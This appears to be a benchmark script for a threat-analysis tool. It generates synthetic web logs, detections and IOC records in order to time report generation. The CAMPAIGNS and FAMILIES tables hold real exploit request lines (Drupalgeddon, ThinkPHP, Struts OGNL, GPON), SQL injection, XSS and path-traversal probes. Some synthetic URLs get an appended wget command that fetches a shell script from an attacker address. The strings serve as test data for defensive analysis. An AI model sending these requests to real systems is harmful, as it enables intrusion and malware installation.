"""Report speed: `analyze` + `write_report` (HTML, Markdown, JSON, CSV) for a workspace of 10
million web requests, beside one scan of the lake measured in the same run.

    python bench/report.py                          # 10M events, best of 3
    python bench/report.py --events 2000000 --runs 1
    python bench/report.py --keep /tmp/ws-10m       # build once, reuse on the next runs

The workspace is generated with DuckDB in the shape ingest and detect write (not ingested:
ingest has its own benchmark): 20 organisations in 6 sectors, two quarters (2019Q1, the
baseline, and 2019Q2, the period reported), one lake file per organisation and month
(``lake/http/org_id=<org>/<file_id>_0.parquet``, lines in time order), about 5% of the requests
attacks (14 campaigns of the knowledge base with their CVEs, some new in the period, and
generic families), a second rule on a third of the campaign requests, ~200,000 distinct source
addresses (attackers drawn skewed from real allocated ranges, clients uniformly), host records
for a third of the attackers and IOC lists naming some attackers and payload URLs. The real
`enrich` then runs once (untimed) so that the source, infrastructure and indicator figures
exist.

Baseline: one scan of the whole lake reading the http columns the report's figures read or
could (organisation, time, day, kind, source address), grouped by organisation, day and kind
(the smallest report there is: events per organisation and day). The report is timed as a
user runs it: ``analyze(ws, period)`` then ``write_report`` (no PDF: printing is Chromium's
time, not ours). DuckDB runs with 2 threads in both. Wall and CPU seconds are printed; the runs
share one process, so only the first pays for compiling the HTML template (about 0.6 s).
``--profile`` runs the report once with each SQL statement timed and prints the slowest.
"""

from __future__ import annotations

import argparse
import hashlib
import itertools
import random
import resource
import shutil
import statistics
import sys
import tempfile
import time
from datetime import date
from pathlib import Path

import duckdb
import pyarrow as pa

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from threatscope import analyze as analyze_stage  # noqa: E402
from threatscope import report, schema  # noqa: E402
from threatscope.analyze import Period, figures  # noqa: E402
from threatscope.enrich import run_enrich  # noqa: E402
from threatscope.enrich.stage import asn_ranges_num  # noqa: E402
from threatscope.ipnum import V4_MAPPED  # noqa: E402
from threatscope.workspace import Org, Workspace  # noqa: E402

THREADS = 2
PERIOD = "2019Q2"
FIRST_DAY = date(2019, 1, 1)
MONTHS = 6
SECTORS = ["finance", "government", "healthcare", "energy", "retail", "education"]
# (campaign, product, CVEs, rule title, request, first day of activity (days from FIRST_DAY),
#  weight, malware family, payload: a download URL in the request)
CAMPAIGNS = [
    ("iis-webdav", "iis", ["CVE-2017-7269"], "IIS WebDAV PROPFIND overflow", "PROPFIND /", 0, 6,
     None, False),
    ("iis-shortname", "iis", [], "IIS short name enumeration", "GET /*~1*/a.aspx", 0, 3, None,
     False),
    ("drupalgeddon2", "drupal", ["CVE-2018-7600"], "Drupalgeddon 2",
     "POST /user/register?element_parents=account/mail/%23value&ajax_form=1", 0, 5, None, True),
    ("drupalgeddon3", "drupal", ["CVE-2018-7602"], "Drupalgeddon 3",
     "POST /node/1/delete?destination=node?q[%2523][]=passthru", 20, 1, None, False),
    ("weblogic-wls-wsat", "weblogic", ["CVE-2017-10271"], "WebLogic WLS-WSAT XMLDecoder",
     "POST /wls-wsat/CoordinatorPortType", 0, 4, "xmrig", True),
    ("weblogic-async", "weblogic", ["CVE-2019-2725"], "WebLogic wls9_async deserialisation",
     "POST /_async/AsyncResponseService", 110, 4, "xmrig", True),
    ("gpon", "gpon", ["CVE-2018-10561", "CVE-2018-10562"], "GPON authentication bypass",
     "POST /GponForm/diag_Form?images/", 0, 8, "mirai", True),
    ("struts-s2-045", "struts", ["CVE-2017-5638"], "Struts S2-045 Content-Type OGNL",
     "GET /index.action", 0, 3, None, False),
    ("struts-s2-052", "struts", ["CVE-2017-9805"], "Struts S2-052 REST XStream",
     "POST /struts2-rest-showcase/orders/3", 0, 1, None, False),
    ("struts-s2-057", "struts", ["CVE-2018-11776"], "Struts S2-057 namespace OGNL",
     "GET /$%7B(111+111)%7D/actionChain1.action", 0, 2, None, False),
    ("thinkphp-rce", "thinkphp", ["CVE-2018-20062", "CVE-2019-9082"], "ThinkPHP 5 RCE",
     "GET /index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array", 0, 7,
     "mirai", True),
    ("phpunit-eval-stdin", "phpunit", ["CVE-2017-9841"], "PHPUnit eval-stdin.php",
     "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 0, 3, None, False),
    ("shellshock", "bash", ["CVE-2014-6271"], "Shellshock via CGI", "GET /cgi-bin/test.cgi", 0,
     2, None, True),
    ("jenkins-rce", "jenkins", ["CVE-2018-1000861"], "Jenkins Stapler RCE",
     "GET /securityRealm/user/admin/descriptorByName/checkScript", 30, 2, None, False),
]
# generic attack families (no campaign, no CVE)
FAMILIES = [("sqli", "SQL injection attempt", "GET /item.php?id=1%27%20OR%201=1--"),
            ("xss", "Cross-site scripting attempt", "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
            ("lfi", "Path traversal", "GET /index.php?page=../../../../etc/passwd"),
            ("scanner", "Vulnerability scanner", "GET /.env"),
            ("webshell", "Web shell probe", "GET /shell.php?cmd=id")]
# hosting and access networks the addresses come from (Tencent, Alibaba, DigitalOcean, AWS,
# OVH, Chinanet, China Unicom, Comcast, Deutsche Telekom, Orange, Vietnam Telecom)
ATTACKER_ASNS = [45090, 37963, 14061, 16509, 16276, 4134, 4837, 7922, 3320, 3215, 45899]
CLIENT_ASNS = [7922, 3320, 3215, 2856, 701, 7018]
HOST_PRODUCTS = [("ftp", 21, "Microsoft ftpd", "Windows Server 2008 R2"),
                 ("http", 80, "Microsoft IIS httpd", "Windows Server 2012 R2"),
                 ("smtp", 25, "Exim smtpd", "Linux"), ("pptp", 1723, None, None),
                 ("mikrotik-bw", 2000, "MikroTik bandwidth-test server", "MikroTik RouterOS"),
                 ("http", 3128, "Squid http proxy", None), ("http", 8080, "Jetty", "Linux"),
                 ("rdp", 3389, None, "Windows 7 or 8"), ("ssh", 22, "OpenSSH", "Linux"),
                 ("mysql", 3306, "MySQL", "Linux")]
AGENTS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/73.0.3683.86 Safari/537.36",
          "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_4) AppleWebKit/605.1.15 (KHTML, like "
          "Gecko) Version/12.1 Safari/605.1.15",
          "Mozilla/5.0 (X11; Linux x86_64; rv:66.0) Gecko/20100101 Firefox/66.0",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 12_2 like Mac OS X) AppleWebKit/605.1.15",
          "Googlebot/2.1 (+http://www.google.com/bot.html)"]
ATTACK_AGENTS = ["Mozilla/5.0", "python-requests/2.21.0", "Go-http-client/1.1", "curl/7.58.0",
                 "masscan/1.0 (https://github.com/robertdavidgraham/masscan)"]
PATHS = ["/", "/index.html", "/login", "/static/app.js", "/static/site.css", "/api/items",
         "/images/logo.png", "/news", "/contact", "/favicon.ico"]


def _addresses(asns: list[int], n: int, rng: random.Random, avoid: set[int]) -> list[int]:
    """``n`` distinct IPv4 numbers in the ranges of ``asns`` (none of ``avoid``)."""
    ranges = [(a - V4_MAPPED, b - V4_MAPPED) for a, b, _, _ in asn_ranges_num(asns)
              if V4_MAPPED <= a and b <= V4_MAPPED + 0xFFFFFFFF]
    cum = list(itertools.accumulate(b - a + 1 for a, b in ranges))
    out: set[int] = set()
    while len(out) < n:
        a, b = rng.choices(ranges, cum_weights=cum)[0]
        x = rng.randint(a, b)
        if x not in avoid:
            out.add(x)
    return sorted(out)


def _sql_list(values: list) -> str:
    return "[" + ", ".join("NULL" if v is None else f"'{v}'" for v in values) + "]"


def _text_ip(col: str) -> str:
    return (f"concat_ws('.', ({col} >> 24) & 255, ({col} >> 16) & 255, ({col} >> 8) & 255, "
            f"{col} & 255)")


def build(root: Path, events: int, seed: int = 1) -> Workspace:
    """Generate the workspace at ``root`` (see the module docstring)."""
    rng = random.Random(seed)
    ws = Workspace.open(root, create=True)
    orgs = [Org(f"org{k:02d}", f"Organisation {k}", SECTORS[k % len(SECTORS)], 1 + k % 4)
            for k in range(1, 21)]
    ws.register_orgs(orgs)
    attackers = _addresses(ATTACKER_ASNS, events // 70, rng, set())  # ~143k at 10M
    clients = _addresses(CLIENT_ASNS, events // 170, rng, set(attackers))  # ~59k
    con = duckdb.connect()
    con.execute(f"SET threads = {THREADS}")
    con.register("_att", pa.table({"k": range(len(attackers)), "n": attackers}))
    con.register("_cli", pa.table({"k": range(len(clients)), "n": clients}))
    con.execute("CREATE TABLE att AS SELECT k, n FROM _att")
    con.execute("CREATE TABLE cli AS SELECT k, n FROM _cli")
    con.execute("CREATE TABLE camp (c INTEGER, campaign VARCHAR, product VARCHAR, cves VARCHAR[],"
                " title VARCHAR, request VARCHAR, onset INTEGER, weight INTEGER, "
                "malware VARCHAR, payload BOOLEAN)")
    con.executemany("INSERT INTO camp VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                    [(i, *c) for i, c in enumerate(CAMPAIGNS)])
    # campaign chosen by weight: c_of[w] for w in 0..sum(weights)-1
    slots = [i for i, c in enumerate(CAMPAIGNS) for _ in range(c[6])]
    con.execute(f"CREATE TABLE slot AS SELECT unnest({slots}) AS c, "
                f"unnest(range({len(slots)})) AS w")
    con.execute(f"CREATE TABLE det ({schema.ddl_columns(schema.DETECTION)})")
    n_att, n_cli, n_slot = len(attackers), len(clients), len(slots)
    weights = [1 + (k * 7) % 5 for k in range(len(orgs))]
    agents, attack_agents = _sql_list(AGENTS), _sql_list(ATTACK_AGENTS)
    paths = _sql_list(PATHS)
    families = _sql_list([f[0] for f in FAMILIES])
    fam_titles = _sql_list([f[1] for f in FAMILIES])
    fam_requests = _sql_list([f[2] for f in FAMILIES])
    for o, org in enumerate(orgs):
        folder = ws.lake / "http" / f"org_id={org.org_id}"
        folder.mkdir(parents=True, exist_ok=True)
        for m in range(MONTHS):
            start = date(FIRST_DAY.year, FIRST_DAY.month + m, 1)
            end = date(FIRST_DAY.year, FIRST_DAY.month + m + 1, 1)
            n = events * weights[o] // sum(weights) // MONTHS
            file_id = hashlib.sha256(f"{org.org_id}-{m}".encode()).hexdigest()[:32]
            source_file = f"{org.org_id}/web-{start:%Y%m}.log"
            secs = (end - start).days * 86400
            day0 = (start - FIRST_DAY).days
            # one row per request: r1 (attack?), r2 (which), r3 (who), r4 (details)
            con.execute(f"""
                CREATE OR REPLACE TEMP TABLE chunk AS
                WITH r AS (
                    SELECT i, TIMESTAMP '{start}' + to_microseconds(CAST(i * {secs}e6 / {n} AS BIGINT))
                              AS ts,
                           hash(i, {o}, {m}, 1) % 1000000 / 1e6 AS r1, CAST(hash(i, {o}, {m}, 2) >> 2 AS BIGINT) AS r2,
                           hash(i, {o}, {m}, 3) % 1000000 / 1e6 AS r3, CAST(hash(i, {o}, {m}, 4) >> 2 AS BIGINT) AS r4
                    FROM range({n}) t(i)),
                a AS (
                    SELECT r.*, r1 < 0.05 AS attack,
                           -- campaigns by weight if active that day, else a generic family
                           CASE WHEN r1 < 0.035 THEN s.c END AS c0
                    FROM r LEFT JOIN slot s ON s.w = r2 % {n_slot}),
                b AS (
                    SELECT a.*, CASE WHEN {day0} + datediff('day', TIMESTAMP '{start}', ts)
                                          >= cp.onset THEN cp.c END AS c
                    FROM a LEFT JOIN camp cp ON cp.c = a.c0)
                SELECT b.i + 1 AS source_line, b.ts, b.attack, b.r4,
                       CASE WHEN b.attack THEN b.c END AS c,
                       CASE WHEN b.attack AND b.c IS NULL THEN 1 + b.r2 % 5 END AS fam,
                       coalesce(x.n, y.n) AS ipn
                FROM b
                -- attackers: a skewed draw (few addresses send most), shifted per campaign
                LEFT JOIN att x ON b.attack AND x.k = CAST(
                    ({o} * 7919 + coalesce(b.c, 0) * 104729 + floor({n_att} * pow(b.r3, 2.5)))
                    % {n_att} AS BIGINT)
                LEFT JOIN cli y ON NOT b.attack AND y.k = CAST(floor(b.r3 * {n_cli}) AS BIGINT)""")
            con.execute(f"""
                CREATE OR REPLACE TEMP TABLE req AS
                SELECT c.*, cp.campaign, cp.product, cp.cves, cp.title, cp.malware,
                       CASE WHEN c.c IS NOT NULL THEN split_part(cp.request, ' ', 1)
                            WHEN c.fam IS NOT NULL THEN split_part({fam_requests}[c.fam], ' ', 1)
                            WHEN c.r4 % 10 = 0 THEN 'POST' ELSE 'GET' END AS method,
                       CASE WHEN c.c IS NOT NULL THEN split_part(cp.request, ' ', 2)
                            WHEN c.fam IS NOT NULL THEN split_part({fam_requests}[c.fam], ' ', 2)
                            ELSE {paths}[1 + c.r4 % 10] END
                       || CASE WHEN cp.payload THEN '&cmd=wget%20http://' ||
                               {_text_ip("d.n")}
                               || '/bins/x' || (c.r4 % 7) || '.sh' ELSE '' END AS url,
                       {_text_ip('c.ipn')} AS ip
                FROM chunk c LEFT JOIN camp cp ON cp.c = c.c
                LEFT JOIN att d ON d.k = c.r4 % 40""")
            con.execute(f"""
                COPY (SELECT ts, CAST(ts AS DATE) AS event_date, 'http' AS event_kind,
                             '{source_file}' AS source_file, source_line,
                             ip || ' - - [' || strftime(ts, '%d/%b/%Y:%H:%M:%S +0000') || '] "'
                                || method || ' ' || url || ' HTTP/1.1" ' || status || ' '
                                || bytes || ' "-" "' || ua || '"' AS raw,
                             ip AS source_ip,
                             CAST({V4_MAPPED} + ipn AS DECIMAL(38,0)) AS source_ip_num,
                             CAST(1024 + r4 % 60000 AS INTEGER) AS source_port,
                             '10.0.{o}.10' AS destination_ip, 443 AS destination_port,
                             'www.{org.org_id}.example' AS url_domain,
                             method AS http_request_method, url AS url_original,
                             split_part(url, '?', 1) AS url_path,
                             nullif(split_part(url, '?', 2), '') AS url_query,
                             url_decode(url) AS url_decoded, 'HTTP/1.1' AS http_version,
                             status AS http_response_status_code,
                             bytes AS http_response_body_bytes,
                             NULL::VARCHAR AS http_request_referrer,
                             ua AS user_agent_original, NULL::VARCHAR AS user_name,
                             NULL::VARCHAR AS http_request_headers,
                             NULL::VARCHAR AS http_request_body_content
                      FROM (SELECT *,
                                   CASE WHEN attack THEN {attack_agents}[1 + r4 % 5]
                                        ELSE {agents}[1 + r4 % 5] END AS ua,
                                   CAST(CASE WHEN attack THEN [404, 500, 200, 403][1 + r4 % 4]
                                        ELSE [200, 200, 200, 304, 404][1 + r4 % 5] END
                                        AS INTEGER) AS status,
                                   CAST(200 + r4 % 50000 AS BIGINT) AS bytes FROM req)
                      ORDER BY source_line)
                TO '{folder / f"{file_id}_0.parquet"}' (FORMAT parquet)""")
            # detections: the attack's rule; a second (generic) rule on a third of the
            # campaign requests: one event, two rule matches
            common = (f"'{org.org_id}', ts, ip, 'http', '{file_id}', '{source_file}', "
                      "source_line")
            con.execute(f"""
                INSERT INTO det
                SELECT {common}, CASE WHEN c IS NOT NULL THEN 'rule-' || campaign
                                      ELSE 'rule-' || {families}[fam] END,
                       coalesce(title, {fam_titles}[fam]),
                       CASE WHEN c IS NOT NULL THEN 'critical' ELSE 'medium' END,
                       CASE WHEN c IS NOT NULL THEN cves ELSE [] END, ['T1190'], product,
                       campaign, CASE WHEN c IS NULL THEN {families}[fam] ELSE 'rce' END,
                       malware, 'sigma', left(url, 120)
                FROM req WHERE attack
                UNION ALL
                SELECT {common}, 'rule-download-in-request', 'Download command in a request',
                       'high', [], ['T1190', 'T1105'], NULL, NULL, 'rce', NULL, 'sigma',
                       left(url, 120)
                FROM req WHERE c IS NOT NULL AND r4 % 3 = 0""")
    con.execute(f"COPY (SELECT * FROM det ORDER BY org_id, file_id, source_line) "
                f"TO '{ws.detections_path}' (FORMAT parquet)")
    _intel(con, ws, rng)
    con.close()
    return ws


def _intel(con: duckdb.DuckDBPyConnection, ws: Workspace, rng: random.Random) -> None:
    """Host records for a third of the attackers (1-3 services, a second snapshot for a tenth)
    and IOC lists: Feodo Tracker naming 2% of the attackers, URLhaus naming payload URLs."""
    prods = pa.table({"p": range(len(HOST_PRODUCTS)),
                      "module": [p[0] for p in HOST_PRODUCTS],
                      "port": pa.array([p[1] for p in HOST_PRODUCTS], pa.int32()),
                      "product": pa.array([p[2] for p in HOST_PRODUCTS], pa.string()),
                      "os": pa.array([p[3] for p in HOST_PRODUCTS], pa.string())})
    con.register("_prods", prods)
    folder = ws.lake / "host_record" / f"org_id={schema.NO_ORG}"
    folder.mkdir(parents=True, exist_ok=True)
    con.execute(f"""
        COPY (WITH s AS (SELECT k, n, TIMESTAMP '2019-01-01' + to_seconds(
                                    CAST(hash(k, 5) % (180 * 86400) AS BIGINT)) AS t
                         FROM att WHERE hash(k, 6) % 3 = 0),
                   snaps AS (SELECT k, n, t FROM s
                             UNION ALL SELECT k, n, t - INTERVAL 60 DAY FROM s
                             WHERE hash(k, 7) % 10 = 0),
                   svc AS (SELECT k, n, t, (hash(k, t, j) % {len(HOST_PRODUCTS)}) AS p,
                                  -- each banner crawled at its own second of the hour
                                  t + to_seconds(CAST(hash(k, t, j, 9) % 3600 AS BIGINT)) AS bt
                           FROM snaps, range(3) r(j) WHERE j = 0 OR hash(k, t, j, 8) % 2 = 0)
              SELECT DISTINCT ON (k, t, p.p) bt AS ts, CAST(bt AS DATE) AS event_date,
                     'host_record' AS event_kind, 'bench' AS source_file,
                     row_number() OVER () AS source_line, NULL AS raw, {_text_ip('n')} AS ip,
                     CAST({V4_MAPPED} + n AS DECIMAL(38,0)) AS ip_num, p.port,
                     'tcp' AS transport, p.module, p.product, NULL AS version, p.os,
                     [] AS hostnames, [] AS domains, [] AS tags, [] AS cpe, [] AS vulns,
                     NULL AS as_org, NULL AS isp, NULL::BIGINT AS asn, NULL AS country_code,
                     NULL AS cloud_provider, '220 Service ready' AS banner,
                     'banner' AS record_type
              FROM svc JOIN _prods p USING (p))
        TO '{folder / "bench_0.parquet"}' (FORMAT parquet)""")
    con.unregister("_prods")
    folder = ws.lake / "ioc" / f"org_id={schema.NO_ORG}"
    folder.mkdir(parents=True, exist_ok=True)
    con.execute(f"""
        COPY (SELECT TIMESTAMP '2018-12-01' AS ts, DATE '2018-12-01' AS event_date,
                     'ioc' AS event_kind, 'bench' AS source_file,
                     row_number() OVER () AS source_line, NULL AS raw, ioc_type, value,
                     CAST(f AS DECIMAL(38,0)) AS ip_first_num,
                     CAST(f AS DECIMAL(38,0)) AS ip_last_num, NULL::INTEGER AS port,
                     url_domain, family AS malware_family, threat, 'online' AS status, feed,
                     TIMESTAMP '2018-12-01' AS first_seen, TIMESTAMP '2019-07-01' AS last_seen,
                     [] AS tags, NULL AS reference
              FROM (SELECT 'ip' AS ioc_type, {_text_ip('n')} AS value, {V4_MAPPED} + n AS f,
                           NULL AS url_domain, 'emotet' AS family, 'botnet_cc' AS threat,
                           'feodotracker' AS feed
                    FROM att WHERE hash(k, 9) % 50 = 0
                    UNION ALL
                    SELECT 'url', 'http://' || {_text_ip('n')} || '/bins/x' || j || '.sh', NULL,
                           {_text_ip('n')}, 'mirai', 'malware_download', 'urlhaus'
                    FROM (SELECT n FROM att WHERE k < 40 AND k % 2 = 0), range(7) r(j)))
        TO '{folder / "bench_0.parquet"}' (FORMAT parquet)""")


def scan(ws: Workspace) -> tuple[float, float, int]:
    """The baseline: one pass over the lake's http columns the report could read, grouped as
    the smallest report would be. (wall s, CPU s, rows)."""
    with ws.connect(read_only=True) as con:
        con.execute(f"SET threads = {THREADS}")
        w, c = time.perf_counter(), time.process_time()
        rows = con.execute("""
            SELECT sum(n) FROM (
                SELECT org_id, event_date, event_kind, count(*) AS n, min(ts), max(ts),
                       count(source_ip)
                FROM http GROUP BY ALL)""").fetchall()[0][0]
        return time.perf_counter() - w, time.process_time() - c, int(rows)


def report_once(ws: Workspace, out: Path) -> tuple[float, float, dict]:
    """analyze + write_report (no PDF): (wall s, CPU s, the metrics)."""
    w, c = time.perf_counter(), time.process_time()
    metrics = analyze_stage.analyze(ws, Period.parse(PERIOD))
    report.write_report(metrics, out)
    return time.perf_counter() - w, time.process_time() - c, metrics


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--events", type=int, default=10_000_000)
    ap.add_argument("--runs", type=int, default=3)
    ap.add_argument("--keep", type=Path, help="build the workspace here (or reuse it) and keep it")
    ap.add_argument("--profile", action="store_true",
                    help="one report with each SQL statement timed (the slowest printed)")
    args = ap.parse_args()
    tmp = Path(tempfile.mkdtemp(prefix="ts-bench-report-"))
    try:
        root = args.keep or tmp / "ws"
        t = time.perf_counter()
        if not (root / "detection.parquet").exists():
            shutil.rmtree(root, ignore_errors=True)
            ws = build(root, args.events)
            built = time.perf_counter() - t
            run_enrich(ws)
            print(f"built in {built:.0f} s, enriched in {time.perf_counter() - t - built:.0f} s",
                  flush=True)
        ws = Workspace.open(root)
        with ws.connect(read_only=True) as con:
            (events, files), = con.execute(
                "SELECT count(*), count(DISTINCT file_id) FROM http").fetchall()
            (dets, evs, ips), = con.execute(
                "SELECT count(*), count(DISTINCT (file_id, source_line)), count(DISTINCT src_ip) "
                "FROM detection").fetchall()
            (sources,), = con.execute("SELECT count(*) FROM source").fetchall()
        print(f"workspace: {events:,} http events in {files} lake files, {dets:,} detections "
              f"({evs:,} detected events) from {ips:,} addresses, {sources:,} source addresses")
        if args.profile:
            profile(ws, tmp / "profile")
            return
        _threads(ws)
        scans, reports = [], []
        for k in range(args.runs):
            scans.append(scan(ws))
            reports.append(report_once(ws, tmp / f"report-{k}")[:2])
        sw, sc = min(s[0] for s in scans), min(s[1] for s in scans)
        rw, rc = min(r[0] for r in reports), min(r[1] for r in reports)
        print(f"lake scan:  {sw:.2f} s best, {statistics.median(s[0] for s in scans):.2f} s "
              f"median (CPU {sc:.2f} s; {scans[0][2]:,} rows)")
        print(f"report:     {rw:.2f} s best, {statistics.median(r[0] for r in reports):.2f} s "
              f"median (CPU {rc:.2f} s; analyze + HTML, Markdown, JSON, CSV; no PDF)")
        print(f"ratio: the report takes {rw / sw:.1f}x one lake scan; "
              f"target: 10M events < 10 s on {THREADS} cores "
              f"({'met' if rw < 10 else 'not met'}; {resource.getrusage(0).ru_maxrss // 1024:,}"
              " MiB peak)")
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


class _Timed:
    """A connection that times each statement (``--profile``): what analyze spends its time on."""

    def __init__(self, con: duckdb.DuckDBPyConnection, log: list[tuple[float, float, str]]):
        self._con, self._log = con, log

    def execute(self, sql: str, *a, **k):  # type: ignore[no-untyped-def]
        w, c = time.perf_counter(), time.process_time()
        out = self._con.execute(sql, *a, **k)
        self._log.append((time.perf_counter() - w, time.process_time() - c, sql))
        return out

    def __getattr__(self, name: str):  # type: ignore[no-untyped-def]
        return getattr(self._con, name)

    def __enter__(self) -> _Timed:
        return self

    def __exit__(self, *exc: object) -> None:
        self._con.close()


def _threads(ws: Workspace, log: list[tuple[float, float, str]] | None = None) -> None:
    """Limit every connection the workspace opens to THREADS threads (DuckDB's setting is per
    database: set it on each new connection); with ``log``, time each statement into it."""
    connect = ws.connect

    def limited(*a, **k):  # type: ignore[no-untyped-def]
        con = connect(*a, **k)
        con.execute(f"SET threads = {THREADS}")
        return con if log is None else _Timed(con, log)

    ws.connect = limited  # type: ignore[method-assign]


def profile(ws: Workspace, out: Path, top: int = 25) -> None:
    """One report with every statement timed: the slowest ``top`` printed."""
    log: list[tuple[float, float, str]] = []
    _threads(ws, log)
    w, c = time.perf_counter(), time.process_time()
    metrics = analyze_stage.analyze(ws, Period.parse(PERIOD))
    a, ac = time.perf_counter() - w, time.process_time() - c
    report.write_report(metrics, out)
    print(f"analyze {a:.2f} s, CPU {ac:.2f} s ({sum(x[0] for x in log):.2f} s wall, "
          f"{sum(x[1] for x in log):.2f} s CPU in {len(log)} statements), write_report {time.perf_counter() - w - a:.2f} s; slowest statements "
          "(wall, CPU):")
    period = Period.parse(PERIOD)
    names = {figures.figure_sql(f, period, period.baseline()): k for k, f in figures.FIGURES.items()}
    for t, cpu, sql in sorted(log, key=lambda x: -x[1])[:top]:
        print(f"  {t:6.2f} s {cpu:6.2f} s  {names.get(sql) or ' '.join(sql.split())[:100]}")


if __name__ == "__main__":
    main()
